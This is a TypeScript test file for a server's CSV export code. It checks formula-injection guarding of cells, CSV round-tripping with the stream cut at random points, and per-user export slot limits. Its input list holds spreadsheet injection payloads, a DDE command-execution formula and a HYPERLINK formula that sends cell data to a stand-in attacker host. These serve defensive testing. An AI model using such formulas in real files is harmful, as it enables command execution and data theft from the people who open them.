import { expect } from 'chai';
import { stringify } from 'csv-stringify/sync';
import { guardCell, unguardCell } from '../../server/http/exports/cells.ts';
import { type ExportedRow, readCsv } from '../../server/http/exports/readCsv.ts';
import { createSlots } from '../../server/http/exports/slots.ts';

/** What makes spreadsheets calculate, CSV readers stumble, and guards ambiguous. */
const hostile = [
  ...['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', "'", "''", '"', '""', ',', ';', ' ', '\u00a0', '\ufeff', '|'],
  ...['\uff1d', '\uff0b', '\uff0d', '\uff20', '1', '0.5', 'x', '\u0000', '\u202e', '😀', '{', '[', '\\', '%', ''],
  ...['=cmd|"/C calc"!A0', '=HYPERLINK("http://evil.example?"&A1)', '@SUM(1+9)', '-2+3', '+1', '-1.5', '-.5', '--1'],
];
/** A small generator of its own, so that a seed repeats a run. */
function drawing(seed: number) {
  let state = seed >>> 0;
  return (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}
const formula = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
const strictNumber = /^-?\d+(?:\.\d+)?$/;
const seed = Number(process.env.EXPORT_SEED ?? Date.now() % 1_000_000);

async function read(text: string, size = text.length) {
  const chunks = Array.from({ length: Math.ceil(text.length / size) }, (_, n) => text.slice(n * size, (n + 1) * size));
  const rows: ExportedRow[] = [];
  for await (const row of readCsv(chunks)) rows.push(row);
  return rows;
}
const written = (rows: string[][]) => stringify(rows, { quoted: true, record_delimiter: '\r\n' });

describe('cells of an export', () => {
  it('never begin with what a spreadsheet calculates, but for plain numbers, and are undone exactly', () => {
    const texts = hostile.flatMap((a) => hostile.flatMap((b) => hostile.map((c) => a + b + c)));
    for (const text of texts) {
      const cell = guardCell(text);
      expect(formula.test(cell) && !strictNumber.test(cell), JSON.stringify(text)).to.equal(false);
      expect(unguardCell(cell), JSON.stringify(text)).to.equal(text);
    }
  });

  it('leave ordinary texts and negative amounts as they are', () => {
    for (const text of ['buyer-1', '-5', '-0.25', '12', '', "it's", '{"a":1}', '[]', '2026-11-21T12:00:00.000Z'])
      expect(guardCell(text)).to.equal(text);
    for (const text of ['-', '-1-1', '+5', '-5e3', '-5\n=1', '-٣', '=1']) expect(guardCell(text)).to.equal(`'${text}`);
  });

  it(`come back from CSV as they went in, whatever they are and wherever the file is cut (seed ${seed})`, async () => {
    const draw = drawing(seed);
    const text = () => Array.from({ length: draw(6) }, () => hostile[draw(hostile.length)] ?? '').join('');
    for (let run = 0; run < 300; run += 1) {
      const names = Array.from({ length: 1 + draw(5) }, (_, n) => `column${n}`);
      const rows = Array.from({ length: draw(6) }, () => names.map(text));
      const file = written([names, ...rows.map((row) => row.map(guardCell))]);
      const expected = rows.map((row) => Object.fromEntries(names.map((name, n) => [name, row[n]])));
      expect(await read(file, 1 + draw(file.length))).to.deep.equal(expected);
    }
  });

  it('are read without quotes as well, and a file that breaks off is refused', async () => {
    expect(await read('a,b\n1,\r\n"x",\'=1\n')).to.deep.equal([
      { a: '1', b: '' },
      { a: 'x', b: '=1' },
    ]);
    for (const broken of ['a,b\n1', 'a,b\n"1', 'a,b\n1,2,3\n', 'a\n"1"2\n']) {
      const error = await read(broken).catch((thrown: unknown) => thrown);
      expect(error, JSON.stringify(broken)).to.be.instanceOf(Error);
    }
  });
});

describe('places of exports', () => {
  it('keep some for operators, however many users hold theirs, and give each back once', () => {
    const take = createSlots();
    const held: (() => void)[] = [];
    const fill = (name: string, isOperator: boolean) => {
      for (let n = 0; ; n += 1) {
        try {
          held.push(take(`${name}-${Math.floor(n / 2)}`, isOperator));
        } catch {
          return n;
        }
      }
    };
    expect(fill('user', false)).to.equal(12);
    expect(fill('operator', true)).to.equal(4);
    expect(() => take('operator-9', true)).to.throw('Too many exports');
    held[0]?.();
    held[0]?.();
    expect(() => take('user-9', false), 'a place that operators have taken is none of the users').to.throw('Too many');
    expect(fill('operator-of-tomorrow', true)).to.equal(1);
  });

  it('are two for each, also for operators', () => {
    const take = createSlots();
    for (const isOperator of [false, true]) {
      const name = `one-${isOperator}`;
      take(name, isOperator);
      take(name, isOperator);
      expect(() => take(name, isOperator)).to.throw('exports of yours are running');
    }
  });
});
